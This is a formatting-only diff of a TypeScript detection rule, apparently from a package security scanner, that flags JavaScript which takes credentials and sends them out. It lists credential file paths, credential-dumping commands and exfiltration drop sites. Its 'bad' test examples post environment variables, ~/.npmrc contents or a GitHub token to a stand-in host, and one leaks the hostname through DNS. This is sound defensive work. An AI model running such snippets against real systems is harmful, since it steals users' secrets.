@@ -1,4 +1,14 @@
-import { callsNamed, callsOf, pattern, receiverOf, resolve, placeAt, show, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  callsNamed,
+  callsOf,
+  pattern,
+  receiverOf,
+  resolve,
+  placeAt,
+  show,
+  type Call,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import type { Hit } from '../../rule.ts';
 import { defineRule } from '../../rule.ts';
 import { checkScripts } from '../code/checkScripts.ts';
@@ -8,26 +18,45 @@ import { originPaths, originsOf } from '../code/origins.ts';
 /** Keys of whoever runs the program, and places where browsers, chat programs and wallets keep theirs. */
 const KEPT =
   /\.npmrc\b|\.pypirc\b|\.git-credentials|\.netrc\b|\.ssh(?:\/|\*|$)|id_(?:rsa|ed25519|ecdsa)\b|\.aws(?:\/|\*)*credentials|\.docker(?:\/|\*)*config\.json|\.kube(?:\/|\*)*config|application_default_credentials|Login Data|Local Storage\/leveldb|logins\.json|key4\.db|wallet\.dat|nkbihfbeogaeaoehlefnkodbefgpgknn|Exodus\/exodus\.wallet|\.bash_history|\/etc\/(?:passwd|shadow)/i;
-const READS = ['readFileSync', 'readFile', 'readdirSync', 'readdir', 'createReadStream', 'copyFileSync'].flatMap((name) => [`fs.${name}`, `fs.promises.${name}`, `fs-extra.${name}`]);
-const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'].map((name) => `child_process.${name}`);
+const READS = ['readFileSync', 'readFile', 'readdirSync', 'readdir', 'createReadStream', 'copyFileSync'].flatMap(
+  (name) => [`fs.${name}`, `fs.promises.${name}`, `fs-extra.${name}`],
+);
+const RUNS = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile'].map(
+  (name) => `child_process.${name}`,
+);
 /** Commands that search for or print credentials. */
-const SEARCHES = /\btrufflehog\b|\bgh\s+auth\s+token\b|\bgitleaks\s+(?:detect|dir|git)\b|\bnpm\s+(?:token|config\s+get\s+\S*_auth)|security\s+find-(?:generic|internet)-password|gcloud\s+auth\s+print-access-token|aws\s+(?:configure\s+get|sts\s+get-session-token)|\bprintenv\b|(?:^|\s)env(?:\s|$)|cat\s+\S*(?:\.npmrc|\.ssh|\.aws|\.env\b)/;
-const WHO = ['os.hostname()', 'os.userInfo()', 'os.homedir()', 'os.networkInterfaces()', 'dns.getServers()', 'process.cwd()'];
+const SEARCHES =
+  /\btrufflehog\b|\bgh\s+auth\s+token\b|\bgitleaks\s+(?:detect|dir|git)\b|\bnpm\s+(?:token|config\s+get\s+\S*_auth)|security\s+find-(?:generic|internet)-password|gcloud\s+auth\s+print-access-token|aws\s+(?:configure\s+get|sts\s+get-session-token)|\bprintenv\b|(?:^|\s)env(?:\s|$)|cat\s+\S*(?:\.npmrc|\.ssh|\.aws|\.env\b)/;
+const WHO = [
+  'os.hostname()',
+  'os.userInfo()',
+  'os.homedir()',
+  'os.networkInterfaces()',
+  'dns.getServers()',
+  'process.cwd()',
+];
 /** Where data is left that nobody asks for. */
-const DROPS = /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin/;
+const DROPS =
+  /discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|webhook\.site|pipedream\.net|\.ngrok\b|\.oast\.|burpcollaborator|interact\.sh|requestbin|hookbin/;
 const METADATA = /169\.254\.169\.254|metadata\.google\.internal/;
 
 const ownMachine = (to: string): boolean => /^(?:https?:\/\/)?(?:localhost|127\.0\.0\.1|\[::1\])/.test(to);
 
 /** The text of a call's arguments as far as it is known, joined paths included. */
-const textOf = (script: ScriptFacts, call: Call): string => `${call.args.map((arg) => pattern(script, arg)).join(' ')} ${show(script, call.value)}`.replace(/\\+/g, '/').replace(/['"],\s*['"]/g, '/');
+const textOf = (script: ScriptFacts, call: Call): string =>
+  `${call.args.map((arg) => pattern(script, arg)).join(' ')} ${show(script, call.value)}`
+    .replace(/\\+/g, '/')
+    .replace(/['"],\s*['"]/g, '/');
 
 /** What the script reads or runs to get at keys: the calls, with words for the person. */
 function takings(script: ScriptFacts): Map<number, string> {
   const found = new Map<number, string>();
-  for (const call of callsOf(script, ...READS)) if (KEPT.test(textOf(script, call))) found.set(call.value, 'files that hold keys of whoever runs it');
-  for (const call of callsOf(script, ...RUNS)) if (SEARCHES.test(textOf(script, call))) found.set(call.value, 'what a search for credentials finds');
-  for (const request of requestsOf(script)) if (METADATA.test(request.to)) found.set(request.value, 'the credentials of the machine in the cloud');
+  for (const call of callsOf(script, ...READS))
+    if (KEPT.test(textOf(script, call))) found.set(call.value, 'files that hold keys of whoever runs it');
+  for (const call of callsOf(script, ...RUNS))
+    if (SEARCHES.test(textOf(script, call))) found.set(call.value, 'what a search for credentials finds');
+  for (const request of requestsOf(script))
+    if (METADATA.test(request.to)) found.set(request.value, 'the credentials of the machine in the cloud');
   return found;
 }
 
@@ -47,30 +76,82 @@ export const packageStealsData = defineRule({
     const streamed = writtenTo(script);
     for (const request of requestsOf(script)) {
       if (ownMachine(request.to) || METADATA.test(request.to)) continue;
-      const sent = [...request.sent.filter((value) => value !== request.address), ...(streamed.get(request.value) ?? [])];
+      const sent = [
+        ...request.sent.filter((value) => value !== request.address),
+        ...(streamed.get(request.value) ?? []),
+      ];
       const from = new Set(sent.flatMap((value) => [...originsOf(script, value)]));
       const source = [...taken].find(([value]) => from.has(value));
       const paths = new Set(sent.flatMap((value) => [...originPaths(script, value)]));
       if (source !== undefined) yield hit(request.value, { message: `It sends away ${source[1]}.` });
-      else if (sendsEnvironment(script, sent)) yield hit(request.value, { message: 'It sends all variables of the environment away, keys included.' });
-      else if (WHO.filter((path) => paths.has(path)).length >= 2) yield hit(request.value, { severity: 'high', confidence: 'medium', message: 'It reports who runs it on which machine.' });
-      else if (taken.size > 0 && DROPS.test(request.to)) yield hit(request.value, { confidence: 'medium', message: 'It reads what holds keys, and leaves data where nobody asks for it.' });
+      else if (sendsEnvironment(script, sent))
+        yield hit(request.value, { message: 'It sends all variables of the environment away, keys included.' });
+      else if (WHO.filter((path) => paths.has(path)).length >= 2)
+        yield hit(request.value, {
+          severity: 'high',
+          confidence: 'medium',
+          message: 'It reports who runs it on which machine.',
+        });
+      else if (taken.size > 0 && DROPS.test(request.to))
+        yield hit(request.value, {
+          confidence: 'medium',
+          message: 'It reads what holds keys, and leaves data where nobody asks for it.',
+        });
     }
     yield* lookups(script, file.path);
   }),
   examples: {
     bad: [
-      { files: { 'index.js': "const env = process.env;\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify({ env, a: 1 }) });\n" } },
-      { files: { 'index.js': "fetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(process.env) });\n" } },
-      { files: { 'index.js': "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n" } },
-      { files: { 'index.js': "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n" } },
+      {
+        files: {
+          'index.js':
+            "const env = process.env;\nfetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify({ env, a: 1 }) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js': "fetch('https://collect.dev/e', { method: 'POST', body: JSON.stringify(process.env) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const fs = require('fs'), os = require('os');\nconst t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nfetch('https://collect.dev/t', { method: 'POST', body: t });\n",
+        },
+      },
       { files: { 'index.js': "require('dns').lookup(require('os').hostname() + '.x.collect.dev', () => {});\n" } },
     ],
     good: [
-      { files: { 'index.mjs': "const env = process.env;\nconst { TOKEN } = process.env;\nfetch('https://api.dev/v1', { method: 'POST', headers: { authorization: 'Bearer ' + TOKEN }, body: JSON.stringify({ ref: env.GITHUB_REF }) });\n" } },
-      { files: { 'index.js': "fetch(process.env.API_URL + '/v1', { method: 'POST', body: JSON.stringify({ a: 1, mode: process.env.NODE_ENV }) });\n" } },
-      { files: { 'index.js': "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc', 'utf8').split('\\n');\nconsole.log(t.length);\nfetch('https://registry.dev/ping');\n" } },
-      { files: { 'index.js': "const os = require('os');\nfetch('https://status.dev/up', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) });\n" } },
+      {
+        files: {
+          'index.mjs':
+            "const env = process.env;\nconst { TOKEN } = process.env;\nfetch('https://api.dev/v1', { method: 'POST', headers: { authorization: 'Bearer ' + TOKEN }, body: JSON.stringify({ ref: env.GITHUB_REF }) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "fetch(process.env.API_URL + '/v1', { method: 'POST', body: JSON.stringify({ a: 1, mode: process.env.NODE_ENV }) });\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const fs = require('fs');\nconst t = fs.readFileSync('.npmrc', 'utf8').split('\\n');\nconsole.log(t.length);\nfetch('https://registry.dev/ping');\n",
+        },
+      },
+      {
+        files: {
+          'index.js':
+            "const os = require('os');\nfetch('https://status.dev/up', { method: 'POST', body: JSON.stringify({ host: os.hostname() }) });\n",
+        },
+      },
     ],
   },
 });
@@ -81,7 +162,8 @@ function writtenTo(script: ScriptFacts): ReadonlyMap<number, readonly number[]> 
   const requests = new Set(callsOf(script, 'https.request', 'http.request').map(({ value }) => value));
   if (requests.size === 0) return written;
   for (const call of callsNamed(script, 'write', 'end').slice(0, 300)) {
-    for (const made of originsOf(script, receiverOf(script, call))) if (requests.has(made)) written.set(made, [...(written.get(made) ?? []), call.args[0] ?? 0]);
+    for (const made of originsOf(script, receiverOf(script, call)))
+      if (requests.has(made)) written.set(made, [...(written.get(made) ?? []), call.args[0] ?? 0]);
   }
   return written;
 }
@@ -103,11 +185,25 @@ function sendsEnvironment(script: ScriptFacts, sent: readonly number[]): boolean
 
 /** Data put into a name that is looked up. */
 function* lookups(script: ScriptFacts, path: string): Generator<Hit> {
-  for (const call of callsOf(script, 'dns.lookup', 'dns.resolve', 'dns.resolve4', 'dns.resolveTxt', 'dns.promises.lookup', 'dns.promises.resolve')) {
+  for (const call of callsOf(
+    script,
+    'dns.lookup',
+    'dns.resolve',
+    'dns.resolve4',
+    'dns.resolveTxt',
+    'dns.promises.lookup',
+    'dns.promises.resolve',
+  )) {
     const from = originPaths(script, call.args[0] ?? 0);
     if (!/\*.*\.[\w-]+\.\w+$/.test(pattern(script, call.args[0] ?? 0))) continue;
     if ([...from].some((one) => /^(?:os\.(?:hostname|userInfo)\(\)|process\.env)/.test(one) || WHO.includes(one))) {
-      yield { place: placeAt(script, path, call.pos), evidence: show(script, call.value), severity: 'high', confidence: 'medium', message: 'It hides data in a name that it looks up.' };
+      yield {
+        place: placeAt(script, path, call.pos),
+        evidence: show(script, call.value),
+        severity: 'high',
+        confidence: 'medium',
+        message: 'It hides data in a name that it looks up.',
+      };
     }
   }
 }
